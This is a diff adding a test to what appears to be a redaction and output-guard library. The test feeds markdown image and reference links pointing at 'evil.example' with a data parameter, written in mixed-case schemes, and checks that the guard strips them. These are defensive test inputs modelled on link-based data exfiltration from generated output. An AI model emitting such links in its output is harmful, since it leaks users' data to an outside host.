@@ -125,3 +125,9 @@ def test_placeholders_that_are_cut_anywhere_come_back(size: int) -> None:
     restorer = Restorer(Vault({"[PHONE_1]": "010-1234-5678", "[EMAIL_12]": "a@b.kr"}))
     out = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.finish()
     assert out == "say 010-1234-5678, [x] and a@b.kr"
+
+
+@pytest.mark.parametrize("text", ["![x](HTTPS://evil.example/?d=1)", "[x]: HtTp://evil.example/?d=1"])
+async def test_an_address_in_capitals_loads_as_well(text: str) -> None:
+    decision = await Guard().check(text, "output", policy(links={"output": "strip"}))
+    assert (decision.output.strip(), [one.finding.label for one in decision.acted]) == ("", ["image"])
